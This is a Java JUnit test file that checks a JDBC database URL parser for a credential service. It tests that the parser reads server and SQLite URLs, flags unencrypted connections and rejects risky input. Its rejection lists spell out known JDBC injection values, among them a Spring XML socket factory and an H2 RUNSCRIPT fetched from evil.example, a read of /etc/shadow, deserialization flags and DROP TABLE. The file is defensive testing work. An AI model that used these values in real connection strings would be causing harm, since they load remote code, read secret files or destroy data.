// SPDX-License-Identifier: Apache-2.0
package org.postern.credential.jdbc.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseUrlTest {

    private static final Path DIRECTORY = Path.of("/etc/postern");

    private static DatabaseUrl read(String url) {
        return DatabaseUrl.read(url, DIRECTORY);
    }

    @Test
    void readsServers() {
        assertThat(read("jdbc:postgresql://db.example/mail"))
                .isEqualTo(new DatabaseUrl.Server(
                        DatabaseUrl.Kind.POSTGRESQL,
                        List.of(new DatabaseUrl.Host("db.example", 5432)),
                        "mail",
                        Map.of()));
        assertThat(
                        read(
                                "jdbc:postgresql://a:5433,[::1]/mail?sslmode=verify-full&sslrootcert=ca.pem&targetServerType=primary"))
                .isEqualTo(new DatabaseUrl.Server(
                        DatabaseUrl.Kind.POSTGRESQL,
                        List.of(new DatabaseUrl.Host("a", 5433), new DatabaseUrl.Host("[::1]", 5432)),
                        "mail",
                        Map.of(
                                "sslmode",
                                "verify-full",
                                "sslrootcert",
                                "/etc/postern/ca.pem",
                                "targetServerType",
                                "primary")));
        assertThat(read("jdbc:mysql://db/mail?SSLMODE=verify-ca").place()).isEqualTo("jdbc:mariadb://db:3306/mail");
        assertThat(read("jdbc:mariadb://db/mail")).isEqualTo(read("jdbc:mysql://db/mail"));
    }

    @Test
    void readsFiles() {
        assertThat(read("jdbc:sqlite:accounts.db"))
                .isEqualTo(new DatabaseUrl.Sqlite(Path.of("/etc/postern/accounts.db")));
        assertThat(read("jdbc:sqlite:/var/lib/a b@c.db"))
                .isEqualTo(new DatabaseUrl.Sqlite(Path.of("/var/lib/a b@c.db")));
    }

    @Test
    void tellsWhetherPasswordsCouldBeReadOnTheirWay() {
        assertThat(((DatabaseUrl.Server) read("jdbc:postgresql://db.example/mail")).isExposed())
                .isTrue();
        assertThat(((DatabaseUrl.Server) read("jdbc:postgresql://db.example/mail?sslmode=require")).isExposed())
                .isTrue();
        assertThat(((DatabaseUrl.Server) read("jdbc:postgresql://db.example/mail?sslmode=verify-full")).isExposed())
                .isFalse();
        assertThat(((DatabaseUrl.Server) read("jdbc:mysql://localhost,127.0.0.1/mail")).isExposed())
                .isFalse();
        assertThat(((DatabaseUrl.Server) read("jdbc:mysql://localhost,db.example/mail")).isExposed())
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "socketFactoryArg=http://evil.example/x.xml",
                "sslfactory=x",
                "sslfactoryarg=x",
                "sslhostnameverifier=x",
                "authenticationPluginClassName=x",
                "xmlFactoryFactory=x",
                "jaasApplicationName=x",
                "loggerFile=/tmp/x",
                "loggerLevel=TRACE",
                "service=x",
                "options=-c%20x=y",
                "allowLocalInfile=true",
                "allowLoadLocalInfile=true",
                "allowUrlInLocalInfile=true",
                "autoDeserialize=true",
                "queryInterceptors=x",
                "statementInterceptors=x",
                "propertiesTransform=x",
                "initSql=DROP%20TABLE%20x",
                "sessionVariables=x=y",
                "credentialType=x",
                "plugin=x",
                "pipe=x",
                "localSocket=/tmp/x",
                "keyStore=/tmp/x",
                "serverRsaPublicKeyFile=/etc/shadow",
                "allowMultiQueries=true",
                "INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "x"
            })
    @DisplayName("B-30: refuses properties that load classes, read files or run scripts")
    void refusesDangerousProperties(String property) {
        for (String driver : List.of("postgresql", "mysql", "mariadb")) {
            assertThatThrownBy(() -> read("jdbc:" + driver + "://db/mail?connectTimeout=1&" + property))
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageContaining("is not taken; taken are ")
                    .hasMessageNotContaining("evil.example");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:hsqldb:mem:x",
                "jdbc:derby:x;create=true",
                "jdbc:oracle:thin:scott/tiger@//db:1521/x",
                "jdbc:postgresql://user:c4nary@db/mail",
                "jdbc:postgresql://db/mail?user=alice",
                "jdbc:postgresql://db/mail?sslmode=require&password=c4nary",
                "jdbc:postgresql://db/mail?PASSWORD=c4nary",
                "jdbc:mysql://db/mail?trustStorePassword=c4nary",
                "jdbc:postgresql://db/mail?sslpassword=c4nary",
                "jdbc:postgresql://db/mail\nx",
                "rmi://evil.example/x",
                "ldap://evil.example/x",
                "java:comp/env/jdbc/x",
                "jdbc:",
                "jdbc:postgresql:",
                "",
            })
    @DisplayName("B-30: refuses other drivers, JNDI names, and users and passwords in a URL, as soon as it is read")
    void refusesOtherDriversAndPasswords(String url) {
        assertThat(DatabaseUrl.FORM.matcher(url).matches()).isFalse();
        assertThatThrownBy(() -> read(url))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("is not a URL of PostgreSQL, MySQL, MariaDB or SQLite")
                .hasMessageNotContaining("c4nary");
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql:mail, another form",
        "jdbc:postgresql://db, another form",
        "jdbc:postgresql://db/mail/x, another form",
        "jdbc:postgresql:///mail, neither a name nor an address",
        "jdbc:postgresql://d b/mail, neither a name nor an address",
        "jdbc:postgresql://db:0/mail, a port that is not a number from 1 to 65535",
        "jdbc:postgresql://db:99999/mail, a port that is not a number",
        "jdbc:postgresql://db/mail?sslmode=sometimes, an sslmode that is none of",
        "jdbc:postgresql://db/mail?sslmode=, without a value",
        "jdbc:postgresql://db/mail?sslrootcert=%00, control character",
        "jdbc:postgresql://db/mail?sslrootcert=%zz, a % that encodes nothing",
        "jdbc:postgresql://db/mail?sslmode=require&SSLMode=require, twice",
        "jdbc:postgresql://db/mail?connectTimeout=never, connectTimeout that is not a number",
        "jdbc:mariadb:replication://db/mail, another form",
        "jdbc:sqlite::memory:, the path of a file and nothing else",
        "jdbc:sqlite:file:a.db, the path of a file and nothing else",
        "jdbc:sqlite:a.db?enable_load_extension=true, the path of a file and nothing else"
    })
    void saysWhatIsWrong(String url, String reason) {
        assertThatThrownBy(() -> read(url))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining(reason);
    }

    @Test
    void setsEveryPropertyThatItTakes() throws Exception {
        // A property that the driver does not know would fail here.
        DatabaseUrl url = read("jdbc:postgresql://db/mail?sslmode=verify-ca&sslrootcert=a&sslcert=b&sslkey=c"
                + "&channelBinding=require&connectTimeout=2&currentSchema=s&targetServerType=primary");
        assertThat(Connector.to(url, () -> Login.NONE, Class::forName).place())
                .isEqualTo("jdbc:postgresql://db:5432/mail");
    }
}
